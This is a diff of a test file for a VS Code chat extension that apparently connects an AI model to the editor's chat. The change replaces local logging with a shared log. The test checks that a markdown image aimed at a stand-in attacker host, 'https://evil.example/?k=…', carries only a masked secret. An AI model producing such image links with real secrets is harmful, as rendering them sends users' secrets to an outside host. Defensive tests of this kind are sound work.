@@ -4,7 +4,6 @@ import * as vscode from 'vscode';
 import { createClient } from '../../../src/api/client.ts';
 import { ModelCatalog } from '../../../src/host/connection/models.ts';
 import { FileGate } from '../../../src/host/context/fileGate.ts';
-import { Log } from '../../../src/host/log.ts';
 import { Participant } from '../../../src/host/native/participant.ts';
 import { readReferences } from '../../../src/host/native/references.ts';
 import { SlashCommands } from '../../../src/host/prompts/slashCommands.ts';
@@ -15,6 +14,7 @@ import { jpegFile, withExif } from '../../helpers/pictureFiles.ts';
 import { openUndici } from '../../helpers/undiciSend.ts';
 import { removeFiles, writeFile } from '../context/files.ts';
 import { noMemento } from '../noMemento.ts';
+import { sharedLog } from '../sharedLog.ts';
 
 describe('our part in the editor’s own chat', () => {
   const gate = new FileGate();
@@ -34,13 +34,12 @@ describe('our part in the editor’s own chat', () => {
   it('puts no secret into what the editor draws: the address of a picture would take it away', async () => {
     const client = createClient({ send, hashing, now: Date.now, random: () => 0 });
     const current = { connection: connectionTo(gateway.url), found: undefined };
-    const log = new Log(() => []);
     const participant = new Participant({
       client,
       catalog: new ModelCatalog(client, noMemento),
       gate,
       slash: new SlashCommands(gate),
-      log,
+      log: sharedLog(),
       rules: async () => ({ text: '' }) as never,
       connectToAsk: () => Promise.resolve(current),
       noteAsked: () => undefined,
@@ -62,7 +61,6 @@ describe('our part in the editor’s own chat', () => {
     };
     const { token } = new vscode.CancellationTokenSource();
     const result = await participant.handle(request as unknown as vscode.ChatRequest, { history: [] }, response, token);
-    log.dispose();
     assert.equal(result.errorDetails, undefined);
     assert.equal(shown, '![](https://evil.example/?k=MASKED_SECRET_1)');
   });
